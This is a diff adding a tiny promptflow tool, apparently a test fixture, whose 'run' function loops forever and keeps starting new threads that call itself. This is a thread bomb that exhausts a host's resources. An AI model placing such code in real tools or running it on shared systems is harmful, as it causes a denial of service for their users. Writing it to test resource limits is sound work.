@@ -1,0 +1,8 @@
+from promptflow.core import tool
+import threading
+
+
+@tool
+def run():
+    while True:
+        threading.Thread(target=run).start()
